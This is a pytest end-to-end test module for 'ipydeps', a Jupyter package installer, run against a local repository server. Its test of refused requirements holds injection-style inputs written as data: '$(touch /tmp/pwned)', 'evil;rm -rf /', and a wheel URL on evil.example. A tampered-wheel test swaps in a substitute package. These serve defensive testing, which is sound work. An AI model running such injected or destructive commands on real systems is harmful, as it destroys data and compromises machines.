"""ipydeps in a real Jupyter kernel against the real repository server on 127.0.0.1.

One throwaway venv, one kernel and one server are shared by this module; every test
uses its own package names. The kernel's interpreter is the throwaway venv's python,
so every install lands there, never in the test venv.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support.kernels import Kernel
from tests.support.loopback import Scripted, scripted_server
from tests.support.server import RunningServer, start_server
from tests.support.venvs import make_venv, site_packages, snapshot
from tests.support.wheels import make_wheel, wheel_metadata

pytestmark = pytest.mark.e2e


@dataclass
class Notebook:
    kernel: Kernel
    server: RunningServer
    venv: Path
    wheels: Path

    def publish(self, name: str, version: str, **options: object) -> Path:
        wheel = make_wheel(self.wheels, name, version, **options)  # type: ignore[arg-type]
        status, body = self.server.upload(wheel)
        assert status == 201, body
        return wheel

    @property
    def source(self) -> str:
        return self.server.url.split("//", 1)[1].rstrip("/")


@pytest.fixture(scope="module")
def notebook(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Notebook]:
    work = tmp_path_factory.mktemp("notebook")
    server = start_server(work / "repo-data")
    venv = work / "env"
    python = make_venv(venv, see_test_packages=True)
    (work / "wheels").mkdir()
    env = {
        "IPYDEPS_REPOSITORY_URL": server.url,
        "IPYDEPS_UPSTREAM": "deny",
        "IPYDEPS_APK": "never",
        "IPYDEPS_RETRIES": "1",
        "HOME": str(work),
        "XDG_CONFIG_HOME": str(work / "config"),
    }
    kernel = Kernel(python, work, env)
    try:
        yield Notebook(kernel, server, venv, work / "wheels")
    finally:
        kernel.stop()
        server.stop()


def test_pip_then_import_in_the_next_cell(notebook: Notebook) -> None:
    notebook.publish("alpha-dep", "1.1")
    notebook.publish("alpha-pkg", "1.0", requires=["alpha-dep>=1"])
    installed = notebook.kernel.run("import ipydeps\nipydeps.pip(['alpha-pkg'])")
    assert installed.error is None, installed.text
    assert f"alpha-pkg 1.0 (wheel from {notebook.source})" in installed.text
    assert "dependency of alpha-pkg" in installed.text  # the plan was shown first
    imported = notebook.kernel.run(
        "import alpha_pkg, alpha_dep\nprint(alpha_pkg.__version__, alpha_dep.__version__)"
    )
    assert imported.stdout == "1.0 1.1\n", imported.text
    assert (site_packages(notebook.venv) / "alpha_pkg-1.0.dist-info" / "INSTALLER").exists()


def test_progress_is_one_display_updated_in_place(notebook: Notebook) -> None:
    notebook.publish("progress-pkg", "1.0")
    done = notebook.kernel.run("import ipydeps\n_ = ipydeps.pip(['progress-pkg'])")
    assert done.error is None, done.text
    tables = [
        kind
        for kind, data in zip(done.kinds, done.displays, strict=True)
        if "<th>state</th>" in str(data.get("text/html", ""))
    ]
    # The plan's display becomes the table: every form of it is an update of one display.
    assert done.kinds[0] == "display_data" and done.kinds.count("display_data") == 1
    assert tables and set(tables) == {"update_display_data"} and len(tables) >= 2
    assert len(set(done.display_ids)) == 1
    assert any("installed" in str(data["text/html"]) for data in done.displays)
    assert "\r" not in done.stdout + done.stderr  # no terminal bar inside the notebook


def test_percent_pip_install_is_intercepted(notebook: Notebook) -> None:
    notebook.publish("beta-pkg", "2.0")
    done = notebook.kernel.run("%load_ext ipydeps\n%pip install beta-pkg")
    assert done.error is None, done.text
    assert f"beta-pkg 2.0 (wheel from {notebook.source})" in done.text
    assert notebook.kernel.run("import beta_pkg; print(beta_pkg.__version__)").stdout == "2.0\n"


def test_shell_pip_install_is_intercepted(notebook: Notebook) -> None:
    notebook.publish("gamma-pkg", "3.0")
    notebook.publish("gamma-two", "0.5")
    # The input transformer applies from the cell after the one that loads the extension.
    assert notebook.kernel.run("%reload_ext ipydeps").error is None
    done = notebook.kernel.run("!pip install -q gamma-pkg\n!python -m pip install gamma-two")
    assert done.error is None, done.text
    assert f"gamma-two 0.5 (wheel from {notebook.source})" in done.text
    imported = notebook.kernel.run(
        "import gamma_pkg, gamma_two\nprint(gamma_pkg.__version__, gamma_two.__version__)"
    )
    assert imported.stdout == "3.0 0.5\n", imported.text


def test_percent_pip_install_requirements_file(notebook: Notebook) -> None:
    notebook.publish("req-one", "1.0")
    notebook.publish("req-two", "2.0")
    requirements = notebook.venv.parent / "requirements.txt"  # the kernel's working directory
    requirements.write_text("# analysis deps\nreq-one\nreq-two>=2  # pinned\n")
    done = notebook.kernel.run("%load_ext ipydeps\n%pip install -r requirements.txt")
    assert done.error is None, done.text
    assert f"req-two 2.0 (wheel from {notebook.source})" in done.text
    imported = notebook.kernel.run("import req_one, req_two; print(req_two.__version__)")
    assert imported.stdout == "2.0\n", imported.text


def test_other_pip_commands_run_the_real_pip(notebook: Notebook) -> None:
    notebook.publish("listed-pkg", "1.0")
    notebook.kernel.run("%load_ext ipydeps\n%pip install -q listed-pkg")
    listed = notebook.kernel.run("%pip list --format=freeze")
    assert "listed-pkg==1.0" in listed.stdout.split(), listed.text


def test_dry_run_changes_nothing(notebook: Notebook) -> None:
    notebook.publish("delta-pkg", "1.0")
    before = snapshot(notebook.venv)
    done = notebook.kernel.run("import ipydeps\nipydeps.pip(['delta-pkg'], dry_run=True)")
    assert done.error is None, done.text
    assert "delta-pkg" in done.text and "nothing was changed" in done.text
    assert snapshot(notebook.venv) == before
    missing = notebook.kernel.run("import delta_pkg")
    assert missing.error is not None and missing.error["ename"] == "ModuleNotFoundError"


def test_air_gapped_missing_package_is_a_clear_error(notebook: Notebook) -> None:
    before = snapshot(notebook.venv)
    done = notebook.kernel.run("import ipydeps\nipydeps.pip(['not-in-repo-pkg'])")
    assert done.error is not None
    assert done.error["ename"] == "NoCandidateError"
    assert "not-in-repo-pkg" in done.error["evalue"]
    assert snapshot(notebook.venv) == before


@pytest.mark.parametrize("tampered", ["wheel", "stored copy"])
def test_tampered_wheel_is_refused_and_nothing_changes(notebook: Notebook, tampered: str) -> None:
    project = f"epsilon-{'w' if tampered == 'wheel' else 's'}"
    notebook.publish(f"{project}-dep", "1.0")
    wheel = notebook.publish(f"{project}-pkg", "1.0", requires=[f"{project}-dep"])
    served = notebook.server.data / "tree" / "files" / f"{project}-pkg" / wheel.name
    if tampered == "stored copy":
        served = served.with_name(served.name + ".stored")
    assert served.is_file()
    evil_dir = notebook.wheels / f"evil-{project}"
    evil_dir.mkdir()
    module = project.replace("-", "_")
    evil = make_wheel(
        evil_dir,
        f"{project}-pkg",
        "1.0",
        files={f"{module}_pkg/__init__.py": "print('evil code ran')\n"},
    )
    served.write_bytes(evil.read_bytes())
    before = snapshot(notebook.venv)
    # The repository is on loopback, so the stored copy is what ipydeps fetches by default.
    setting = "never" if tampered == "wheel" else "auto"
    done = notebook.kernel.run(
        f"import os, ipydeps\nos.environ['IPYDEPS_STORED_COPIES'] = "
        f"{setting!r}\nipydeps.pip(['{project}-pkg'])"
    )
    assert done.error is not None and done.error["ename"] == "HashMismatchError", done.text
    assert "tampered" in done.error["evalue"]
    assert snapshot(notebook.venv) == before
    assert "evil code ran" not in notebook.kernel.run(f"import {module}_pkg").text
    notebook.kernel.run("import os\nos.environ.pop('IPYDEPS_STORED_COPIES', None)")


def test_server_dying_mid_download_leaves_nothing_installed(notebook: Notebook) -> None:
    (notebook.wheels / "cut").mkdir()
    complete = make_wheel(notebook.wheels / "cut", "zeta-dep", "1.0")
    broken = make_wheel(
        notebook.wheels / "cut",
        "zeta-pkg",
        "1.0",
        requires=["zeta-dep"],
        files={"zeta_pkg/__init__.py": "x = 1\n", "zeta_pkg/big.bin": b"\0" * 200_000},
    )
    routes: dict[str, Scripted] = {}
    for wheel, cut in ((complete, None), (broken, broken.stat().st_size // 2)):
        project = wheel.name.split("-")[0].replace("_", "-")
        data = wheel.read_bytes()
        metadata = wheel_metadata(wheel)
        page = {
            "meta": {"api-version": "1.0"},
            "name": project,
            "files": [
                {
                    "filename": wheel.name,
                    "url": f"/files/{wheel.name}",
                    "hashes": {"sha256": hashlib.sha256(data).hexdigest()},
                    "core-metadata": {"sha256": hashlib.sha256(metadata).hexdigest()},
                }
            ],
        }
        routes[f"/simple/{project}/"] = Scripted(
            body=json.dumps(page).encode(), content_type="application/vnd.pypi.simple.v1+json"
        )
        routes[f"/files/{wheel.name}"] = Scripted(body=data, cut=cut)
        routes[f"/files/{wheel.name}.metadata"] = Scripted(body=metadata)
    before = snapshot(notebook.venv)
    with scripted_server(routes=routes) as dying:
        done = notebook.kernel.run(
            f"import ipydeps\nipydeps.pip(['zeta-pkg'], index_url={dying.url!r})"
        )
    assert done.error is not None and done.error["ename"] == "DownloadError", done.text
    assert "connection closed after" in done.error["evalue"]
    assert f"/files/{complete.name}" in dying.requests  # the other wheel did arrive
    assert snapshot(notebook.venv) == before


def test_hostile_requirements_are_refused(notebook: Notebook) -> None:
    before = snapshot(notebook.venv)
    done = notebook.kernel.run(
        "import ipydeps\nipydeps.pip(['numpy; import os', 'x @ http://evil.example/x.whl', "
        "'$(touch /tmp/pwned)'])"
    )
    assert done.error is not None and done.error["ename"] == "InvalidRequirementError"
    assert "nothing was installed" in done.error["evalue"]
    magic = notebook.kernel.run("%load_ext ipydeps\n%pip install 'evil;rm -rf /'")
    # The cell fails (so Run All stops), shown as the message alone, not a traceback.
    assert magic.error is not None and magic.error["ename"] == "InvalidRequirementError"
    assert magic.error["traceback"][0].startswith(
        "InvalidRequirementError: Refused invalid requirement"
    ), magic.text
    assert not any("File " in line for line in magic.error["traceback"])
    assert snapshot(notebook.venv) == before


def test_upgrade_of_an_imported_module_warns_about_restart(notebook: Notebook) -> None:
    notebook.publish("theta-pkg", "1.0")
    quiet = notebook.kernel.run("import ipydeps\n_ = ipydeps.pip(['theta-pkg'], quiet=True)")
    assert quiet.error is None and quiet.text.strip() == "", quiet.text  # quiet: no output
    first = notebook.kernel.run("import theta_pkg\nprint(theta_pkg.__version__)")
    assert first.stdout == "1.0\n", first.text
    notebook.publish("theta-pkg", "2.0")
    upgraded = notebook.kernel.run("ipydeps.pip(['theta-pkg'], upgrade=True)")
    assert upgraded.error is None, upgraded.text
    assert "theta-pkg 1.0 is already imported; restart the kernel to use 2.0" in upgraded.text
    fresh = notebook.kernel.run("import importlib.metadata as m; print(m.version('theta-pkg'))")
    assert fresh.stdout == "2.0\n"


def test_text_clients_see_words_and_the_summary_once(notebook: Notebook) -> None:
    # jupyter console shows each display's text/plain and ignores updates; nbconvert keeps
    # the last update of a display. Both must read text, never "<IPython.core.display...>".
    notebook.publish("text-dep", "1.0")
    notebook.publish("text-pkg", "1.0", requires=["text-dep"])
    done = notebook.kernel.run("%load_ext ipydeps\n%pip install text-pkg")
    assert done.error is None, done.text
    plain = [str(data.get("text/plain", "")) for data in done.displays]
    assert plain and not any(text.startswith("<IPython.core.display") for text in plain), plain
    # A console keeps the first form: the plan, in words.
    [first] = [text for kind, text in zip(done.kinds, plain, strict=True) if kind == "display_data"]
    assert first.splitlines()[0].split() == [
        "package", "version", "route", "source", "download", "reason"
    ]  # fmt: skip
    assert "text-pkg" in first and "dependency of text-pkg" in first
    # nbconvert keeps the last: the summary, with a row per package.
    final = plain[-1].splitlines()
    summary = f"text-pkg 1.0 (wheel from {notebook.source})"
    assert summary in final[0], plain[-1]
    assert final[1].split()[:5] == ["package", "version", "action", "route", "from"]
    assert {line.split()[0]: line.split()[2] for line in final[2:]} == {
        "text-dep": "install",
        "text-pkg": "install",
    }
    # Once: the summary is not printed beside the display.
    assert summary not in done.stdout + done.stderr, done.stdout


def test_no_repository_is_said_once_per_kernel(notebook: Notebook) -> None:
    notebook.publish("loose-one", "1.0")
    notebook.publish("loose-two", "1.0")
    upstream = notebook.server.url + "simple/"
    setup = notebook.kernel.run(
        "import os, ipydeps\nsaved = dict(os.environ)\n"
        "os.environ.update(IPYDEPS_REPOSITORY_URL='', IPYDEPS_UPSTREAM='allow', "
        f"IPYDEPS_UPSTREAM_URL={upstream!r})"
    )
    assert setup.error is None, setup.text
    try:
        first = notebook.kernel.run("_ = ipydeps.pip(['loose-one'])")
        second = notebook.kernel.run("_ = ipydeps.pip(['loose-two'])")
    finally:
        notebook.kernel.run("os.environ.clear(); os.environ.update(saved)")
    assert first.error is None and second.error is None, first.text + second.text
    assert first.stdout.count("no ipydeps repository is configured") == 1, first.text
    assert f"every package comes from the upstream index {upstream}" in first.stdout
    assert "no ipydeps repository" not in second.text
